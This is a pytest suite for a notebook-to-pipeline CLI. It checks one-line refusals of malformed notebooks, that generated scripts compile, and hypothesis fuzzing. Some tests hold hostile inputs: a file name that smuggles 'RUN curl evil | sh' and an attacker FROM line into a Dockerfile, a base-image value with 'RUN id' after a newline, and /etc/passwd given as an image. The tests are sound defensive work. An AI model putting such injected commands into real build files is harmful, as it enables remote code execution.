"""Hostile and malformed input through the real CLI: one line, exit 2, nothing written.

Also the generated script itself: it always compiles, CR-only cells keep their lines, form
feeds keep their indentation, non-finite defaults work, and a hostile notebook file name changes
no Dockerfile instruction and no commit trailer. The reader is fuzzed with hypothesis.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import (
    assert_ok,
    dsops,
    error_line,
    git,
    init_repo,
    make_notebook,
    run_python,
    tree_snapshot,
)
from tests.test_escape import dockerfile_instructions, recipe_for

KERNELSPEC = {"name": "python3", "display_name": "Python 3", "language": "python"}


def raw_notebook(path: Path, cells: list[Any], metadata: Any = None) -> Path:
    """A notebook written as raw JSON, so shapes nbformat would refuse can be made."""
    nb = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": dict(KERNELSPEC)} if metadata is None else metadata,
        "cells": [
            c if isinstance(c, dict) else {"cell_type": "code", "metadata": {}, "source": c}
            for c in cells
        ],
    }
    path.write_text(json.dumps(nb))  # ASCII: lone surrogates are written as \ud800 escapes
    return path


def code(source: Any, **metadata: Any) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": metadata, "source": source, "outputs": []}


def refused(tmp_path: Path, *args: str | Path) -> str:
    """Run dsops in a Git repository; assert one clean line, exit 2, no file, commit or tag."""
    repo = tmp_path
    before, head = tree_snapshot(repo), git(repo, "rev-parse", "HEAD")
    line = error_line(dsops(*args, cwd=repo))
    assert tree_snapshot(repo) == before, "a refused command wrote files"
    assert git(repo, "rev-parse", "HEAD") == head and git(repo, "tag") == ""
    return line


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    init_repo(tmp_path)
    return tmp_path


def commit_all(repo: Path) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "notebooks")


# --- one line, never a traceback ------------------------------------------------------------------
MALFORMED: dict[str, tuple[list[Any], Any]] = {
    "metadata as a list": ([{"cell_type": "code", "metadata": [], "source": "x = 1"}], None),
    "metadata null": ([{"cell_type": "code", "metadata": None, "source": "x = 1"}], None),
    "tags null": ([code("x = 1", tags=None)], None),
    "tags hold a number": ([code("x = 1", tags=["skip", 3])], None),
    "source as a list of ints": ([code([1, 2])], None),
    "source null": ([code(None)], None),
    "kernelspec null": ([code("x = 1")], {"kernelspec": None}),
    "notebook metadata null": ([code("x = 1")], "null"),
    "language a number": ([code("x = 1")], {"kernelspec": {"language": 3}}),
    "lone surrogate in a cell": ([code("label = '\ud800'\nprint(label)")], None),
    "lone surrogate in a tag": ([code("x = 1", tags=["step:\udcff"])], None),
    "NUL in a cell": ([code("x = 1\x00")], None),
    "integer over 4300 digits": ([code("x = " + "9" * 5000)], None),
    "3000-term expression": ([code("x = " + " + ".join(["1"] * 3000))], None),
    "500-term expression": ([code("x = " + " + ".join(["1"] * 500))], None),
    "parameter over 4300 digits": ([code("x = 0x" + "f" * 5000, tags=["parameters"])], None),
    "parameter nested 200 deep": ([code(f"x = {'[' * 199}{']' * 199}", tags=["parameters"])], None),
}


SAMPLE = ["metadata null", "lone surrogate in a cell", "500-term expression"]


def malformed(repo: Path, case: str) -> Path:
    cells, metadata = MALFORMED[case]
    notebook = raw_notebook(repo / "nb.ipynb", cells, metadata)
    if metadata == "null":
        notebook.write_text(notebook.read_text().replace('"metadata": "null"', '"metadata": null'))
    commit_all(repo)
    return notebook


@pytest.mark.parametrize("case", MALFORMED, ids=list(MALFORMED))
def test_malformed_notebooks_are_one_line(case: str, repo: Path) -> None:
    assert "nb.ipynb" in refused(repo, "convert", malformed(repo, case))


@pytest.mark.parametrize("case", SAMPLE)
@pytest.mark.parametrize("command", ["commit", "steps", "run"])
def test_every_command_refuses_them_the_same_way(case: str, command: str, repo: Path) -> None:
    assert "nb.ipynb" in refused(repo, command, malformed(repo, case))


def test_deeply_nested_json_is_one_line(repo: Path) -> None:
    notebook = repo / "deep.ipynb"
    nested = "[" * 100_000 + "]" * 100_000
    notebook.write_text(
        '{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", '
        f'"metadata": {{"x": {nested}}}, "source": "x = 1"}}]}}'
    )
    commit_all(repo)
    assert "too deeply" in refused(repo, "convert", notebook)


def test_names_too_long_for_a_file_are_one_line(repo: Path) -> None:
    long_notebook = make_notebook(repo / ("a" * 243 + ".ipynb"), ["x = 1"])
    assert len(long_notebook.name) == 249
    short = make_notebook(repo / "nb.ipynb", ["x = 1"])
    commit_all(repo)
    assert "--name" in refused(repo, "convert", long_notebook)
    refused(repo, "commit", long_notebook)
    assert "at most" in refused(repo, "convert", short, "--name", "b" * 300)
    refused(repo, "commit", short, "--name", "b" * 300)


def test_a_file_name_that_is_not_utf8_is_one_line(repo: Path) -> None:
    notebook = make_notebook(repo / os.fsdecode(b"caf\xe9.ipynb"), ["x = 1"])  # Latin-1 name
    commit_all(repo)
    assert "not UTF-8" in refused(repo, "convert", notebook)
    refused(repo, "commit", notebook)


def test_a_base_image_that_is_no_image_is_refused_before_committing(repo: Path) -> None:
    notebook = make_notebook(repo / "nb.ipynb", ["x = 1\nprint(x)"])
    not_an_image = repo / "passwd"
    not_an_image.write_text("root:x:0:0:root:/root:/bin/bash\n")
    commit_all(repo)
    args = ("package", notebook, "--reproducible", "--base-image", not_an_image)
    line = refused(repo, *args, "--output", "x.tar")
    assert "passwd" in line and "image" in line
    refused(
        repo,
        "package",
        notebook,
        "--reproducible",
        "--base-image",
        "/etc/passwd",
        "--output",
        "x.tar",
    )


def test_a_base_image_reference_with_a_newline_is_bad_input(repo: Path) -> None:
    notebook = make_notebook(repo / "nb.ipynb", ["x = 1"])
    commit_all(repo)
    line = refused(repo, "package", notebook, "--base-image", "python:3.11\nRUN id")
    assert "invalid base image" in line and "\\n" in line


# --- generated scripts always compile ------------------------------------------------------------
UNCOMPILABLE = {
    "top-level await": "import asyncio\nawait asyncio.sleep(0)",
    "top-level return": "x = 1\nreturn x",
    "top-level yield": "yield 1",
    "top-level yield from": "yield from [1]",
    "async for at top level": "async for x in y:\n    pass",
    "star import beside a statement": "x = 1; from os.path import *\nprint(join('a'))",
    "star import in a block": "if True:\n    from os.path import *\nprint(join('a'))",
    # IPython's own transformer raised IndentationError on these (a traceback, not one line)
    "shell line before a bad dedent": "!ls\n    a\n  b",
    "help line before a bad dedent": "x?\n  y\n z",
}


@pytest.mark.parametrize("case", UNCOMPILABLE, ids=list(UNCOMPILABLE))
def test_cells_that_cannot_become_a_script_name_the_cell(case: str, repo: Path) -> None:
    notebook = raw_notebook(repo / "nb.ipynb", [code("a = 1"), code(UNCOMPILABLE[case])])
    commit_all(repo)
    assert "cell 2" in refused(repo, "convert", notebook)
    assert "cell 2" in refused(repo, "commit", notebook)  # never a commit of a broken script


OUTSIDE_WORDS = {
    "await": "import asyncio\nawait asyncio.sleep(0)",
    "async comprehension": "async def g():\n    yield 1\nprint([x async for x in g()])",
    "async with": "async with lock:\n    pass",
    "return": "return 1",
    "yield": "yield 1",
}


@pytest.mark.parametrize("case", OUTSIDE_WORDS, ids=list(OUTSIDE_WORDS))
def test_the_refusal_names_the_word_outside_a_function(case: str, repo: Path) -> None:
    notebook = raw_notebook(repo / "nb.ipynb", [code("a = 1"), code(OUTSIDE_WORDS[case])])
    commit_all(repo)
    word = case.split()[0] if case in ("return", "yield") else "await"
    line = refused(repo, "convert", notebook)
    assert f"`{word}` outside a function" in line, line


def test_awaits_and_returns_inside_functions_are_fine(repo: Path) -> None:
    source = (
        "import asyncio\n"
        "async def twice(x):\n    await asyncio.sleep(0)\n    return [i async for i in gen(x)]\n"
        "async def gen(x):\n    yield x\n    yield x\n"
        "def first():\n    return (lambda: (yield))\n"
        "print(asyncio.run(twice(3)))"
    )
    notebook = raw_notebook(repo / "nb.ipynb", [code(source)])
    assert_ok(dsops("convert", notebook, "--out", "out", cwd=repo))
    done = assert_ok(run_python(repo / "out" / "nb.py", cwd=repo))
    assert done.stdout.strip() == "[3, 3]"


def test_non_finite_parameter_defaults_run(repo: Path) -> None:
    notebook = raw_notebook(
        repo / "nb.ipynb",
        [
            code("alpha = 1e999\nbeta = [-1e999]\ngamma = 1e999j", tags=["parameters"]),
            code("print(alpha, beta, gamma)"),
        ],
    )
    assert_ok(dsops("convert", notebook, "--out", "out", cwd=repo))
    assert assert_ok(run_python(repo / "out" / "nb.py", cwd=repo)).stdout.split() == [
        "inf",
        "[-inf]",
        "infj",
    ]
    done = assert_ok(run_python(repo / "out" / "nb.py", "--alpha", "2.5", cwd=repo))
    assert done.stdout.split()[0] == "2.5"


def test_a_form_feed_at_line_start_keeps_its_indentation(repo: Path) -> None:
    source = "\fx = 1\nif x:\n\f    print('fed', x)\n  \f    print('reset')\n"
    notebook = raw_notebook(repo / "nb.ipynb", [code(source)])
    assert_ok(dsops("convert", notebook, "--out", "out", cwd=repo))
    assert assert_ok(run_python(repo / "out" / "nb.py", cwd=repo)).stdout == "fed 1\nreset\n"


@pytest.mark.parametrize("ending", ["\r", "\r\n"], ids=["CR", "CRLF"])
def test_cr_line_endings_keep_every_statement_in_its_step(ending: str, repo: Path) -> None:
    source = ending.join(["import os", "x = 1", "print('RAN', x)", "def f():", "    return x", ""])
    notebook = raw_notebook(repo / "nb.ipynb", [code(source), code("print('after', f())")])
    assert_ok(dsops("convert", notebook, "--out", "out", cwd=repo))
    script = repo / "out" / "nb.py"
    assert "\r" not in script.read_text()
    helped = assert_ok(run_python(script, "--help", cwd=repo))
    assert "RAN" not in helped.stdout
    imported = assert_ok(run_python("-c", "import nb", cwd=repo / "out"))
    assert imported.stdout == ""
    assert assert_ok(run_python(script, cwd=repo)).stdout == "RAN 1\nafter 1\n"


def test_cr_line_endings_run_the_marked_steps_in_the_kernel(repo: Path) -> None:
    """The runs read the same normalised cells: a CR-only `%%dsops` line keeps its code."""
    notebook = raw_notebook(
        repo / "nb.ipynb",
        [
            code("%%dsops step load\rx = 20\rprint('load', x)"),
            code("%%dsops step use\rprint('use', x + 1)"),
        ],
    )
    done = assert_ok(dsops("run", notebook, "--step", "use", "--json", cwd=repo))
    executed = json.loads(Path(json.loads(done.stdout)["output_notebook"]).read_text())
    printed = "".join(
        "".join(out.get("text", "")) for cell in executed["cells"] for out in cell["outputs"]
    )
    assert printed == "load 20\nuse 21\n"


# --- injection through the notebook file name -----------------------------------------------------
def test_a_newline_in_the_notebook_name_injects_nothing(repo: Path) -> None:
    name = "wine\nFROM attacker/base:1\nRUN curl evil | sh\n# .ipynb"
    notebook = make_notebook(repo / name, ["x = 1\nprint(x)"])
    commit_all(repo)
    done = assert_ok(dsops("commit", notebook, "--name", "wine", "--json", cwd=repo))
    version = json.loads(done.stdout)
    package = repo / "pipelines" / "wine"
    recipe = (package / "Dockerfile").read_text()
    expected = dockerfile_instructions(recipe_for("wine.ipynb"))
    base = dict(dockerfile_instructions(recipe))["FROM"]
    assert [k for k, _ in dockerfile_instructions(recipe)] == [k for k, _ in expected]
    assert "attacker" not in base and recipe.count("\nFROM ") == 1
    assert json.loads((package / "pipeline.json").read_text())["notebook"] == name
    message = git(repo, "log", "-1", "--format=%B")
    assert message.split("\n")[0] == "dsops: wine v1"
    parsed = subprocess.run(
        ["git", "interpret-trailers", "--parse"],
        input=message,
        cwd=repo,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.splitlines()
    assert [line.split(":")[0] for line in parsed] == ["notebook", "content"]
    assert json.loads(parsed[0].split(": ", 1)[1]) == name
    tag = git(repo, "tag", "-l", "--format=%(contents:subject)", "dsops/wine/v1")
    assert tag == "dsops: wine v1" and version["created"] is True


# --- fuzzing the reader ---------------------------------------------------------------------
SNIPPETS = (
    "x = 1",
    "print(x)",
    "y = x + 1",
    "import os",
    "from os.path import *",
    "from __future__ import annotations",
    "def f():\n    return x",
    "class C:\n    pass",
    "async def g():\n    await g()",
    "%%dsops step a",
    "%%dsops step b --after a",
    "%%dsops parameters\nalpha = 1e999",
    "%%dsops skip",
    "%%dsops",
    "%%dsops step 1bad",
    "%%dsops step a --after",
    "%%time\nz = 1",
    "%matplotlib inline",
    "!ls",
    "files = !ls",
    "await x",
    "return 1",
    "yield 2",
    "lambda: (yield)",
    "global x",
    "nonlocal x",
    "del x",
    "run = 1",
    "step_a = 2",
    "PARAMETERS = 3",
    "x = " + " + ".join(["1"] * 300),
    "x = " + "-" * 250 + "1",
    "x = 0x" + "f" * 4000,
    "\fz = 3",
    "'''unterminated",
    "if x:\n  pass\n else:",
    "x = '\ud800'",
    "x = 1\x00",
    "x = '\\ud800'",
    "alpha: int = 'a'",
    "beta = [1, {2: (3,)}, {4}, 1e999j, -1e999]",
    "gamma = b'bytes'",
    "delta = ...",
    "step = 1",
)
TAGS = (
    "step:a",
    "step:b",
    "step:",
    "step:1x",
    "step:class",
    "block:c",
    "after:a",
    "after:zz",
    "prev:b",
    "parameters",
    "pipeline-parameters",
    "skip",
    "imports",
    "functions",
    "pipeline-metrics",
    "injected-parameters",
    "image:python:3.11",
    "limit:nvidia.com/gpu=1",
)


def _mostly(valid: Any, *odd: Any) -> Any:
    """Valid most of the time, so most notebooks get past the first check and deeper."""
    from hypothesis import strategies as st

    return st.integers(0, 9).flatmap(lambda n: st.one_of(*odd) if n == 9 else valid)


def _strategies() -> Any:
    from hypothesis import strategies as st

    snippet = st.sampled_from(SNIPPETS)
    line = _mostly(snippet, st.text(st.sampled_from("x=1 ():\n\r\t\f'\"#%!\\\ud800")))
    source = st.builds(
        lambda parts, sep: sep.join(parts),
        st.lists(line, max_size=4),
        _mostly(st.just("\n"), st.sampled_from(["\r", "\r\n"])),
    )
    sources = _mostly(
        source | st.lists(source, max_size=3),
        st.lists(st.integers(), min_size=1, max_size=2),
        st.none(),
        st.integers(),
    )
    tags = _mostly(
        st.lists(st.sampled_from(TAGS), max_size=2),
        st.lists(st.text(max_size=8), min_size=1, max_size=2),
        st.none(),
        st.text(max_size=5),
        st.lists(st.integers() | st.none(), min_size=1, max_size=2),
    )
    cell_metadata = _mostly(
        st.fixed_dictionaries({}, optional={"tags": tags}),
        st.none(),
        st.lists(st.integers(), max_size=2),
    )
    cell = _mostly(
        st.fixed_dictionaries(
            {"source": sources},
            optional={
                "cell_type": _mostly(st.just("code"), st.sampled_from(["raw", None, 3])),
                "metadata": cell_metadata,
            },
        ),
        st.sampled_from([None, [], "cell", 7]),
    )
    kernelspec = _mostly(
        st.fixed_dictionaries({}, optional={"language": st.just("python")}),
        st.fixed_dictionaries({"language": st.sampled_from(["R", None, 3])}),
        st.none(),
        st.just([]),
    )
    metadata = _mostly(st.fixed_dictionaries({}, optional={"kernelspec": kernelspec}), st.none())
    return st.fixed_dictionaries(
        {
            "cells": _mostly(st.lists(cell, max_size=6), st.none()),
            "nbformat": _mostly(st.just(4), st.sampled_from([3, 5, "4", None, True])),
        },
        optional={"metadata": metadata, "nbformat_minor": st.integers(0, 5)},
    )


def test_the_reader_raises_dsops_errors_only(tmp_path: Path) -> None:
    """Any JSON shape: the pipeline reads and its script compiles, or one DsopsError line."""
    from hypothesis import HealthCheck, given, settings

    from dsops_jupyter.config import load_config
    from dsops_jupyter.convert import render_files
    from dsops_jupyter.errors import DsopsError
    from dsops_jupyter.notebook import read_pipeline

    notebook = tmp_path / "fuzz.ipynb"
    config = load_config(notebook)
    outcomes = {"read": 0, "refused": 0}

    @settings(
        max_examples=200,
        deadline=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(_strategies())
    def read(nb: dict[str, Any]) -> None:
        notebook.write_text(json.dumps(nb))
        try:
            pipeline = read_pipeline(notebook)
            script = render_files(pipeline, config)["fuzz.py"]
        except DsopsError as err:
            assert "\n" not in str(err)
            outcomes["refused"] += 1
            return
        compile(script, "fuzz.py", "exec")
        outcomes["read"] += 1

    read()
    assert outcomes["read"] > 10 and outcomes["refused"] > 10, outcomes
